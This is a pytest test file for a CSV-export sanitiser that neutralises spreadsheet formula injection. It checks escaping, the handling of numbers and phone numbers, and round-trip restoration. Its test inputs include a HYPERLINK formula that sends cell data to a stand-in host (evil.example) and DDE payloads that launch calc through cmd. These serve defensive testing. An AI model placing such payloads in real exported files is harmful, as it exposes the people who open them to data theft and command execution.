import pytest

from website.csv_safety import looks_like_formula, neutralise, neutralise_row, restore


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez ici")',
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-1+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "+33 1 80 05 98 80",
        "-",
    ],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_gets_an_apostrophe(hostile):
    assert neutralise(hostile) == "'" + hostile
    assert looks_like_formula(hostile)


@pytest.mark.parametrize(
    "number", ["+33180059880", "-0.008588", "-12", "+590590123456", "45.952791", "-0,5"]
)
def test_plain_numbers_and_international_phones_are_kept_as_they_are(number):
    assert neutralise(number) == number
    assert not looks_like_formula(number)


@pytest.mark.parametrize("text", ["Espace numérique", "2024-04-02", "", "a=b", "'quoted"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text


def test_none_and_numbers_become_text():
    assert neutralise_row([None, 3, -2.5, "=1"]) == ["", "3", "-2.5", "'=1"]


@pytest.mark.parametrize("original", ["=1+1", "'=1+1", "''@x", "Médiathèque", "+33180059880", "'"])
def test_restore_gives_back_exactly_what_was_neutralised(original):
    assert restore(neutralise(original)) == original
